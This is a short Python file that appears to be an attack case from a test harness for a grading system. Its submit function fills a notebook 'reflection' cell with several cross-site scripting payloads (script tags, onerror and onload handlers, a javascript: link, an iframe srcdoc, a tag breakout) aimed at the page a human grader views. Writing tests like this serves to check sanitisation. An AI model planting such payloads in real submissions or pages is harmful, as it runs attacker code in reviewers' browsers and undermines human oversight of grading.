# /// attack
# tries = "Hands in an answer for a person to grade, with a script and more in it."
# points = 10
# honest = true
# shows = ["page"]
# ///


def submit(place):
    run = place.bait["script"]
    link = run.replace("(", "%28").replace(")", "%29")
    place.cell("reflection").source = (
        f'<script>{run}</script>\n\n<img src="nowhere:" onerror="{run}">\n\n<svg onload="{run}"></svg>\n\n'
        f"[x](javascript:{link})\n\n"
        f'<iframe srcdoc="<script>{run}</script>"></iframe>\n\n</div></div><script>{run}</script>'
    )
    place.save()
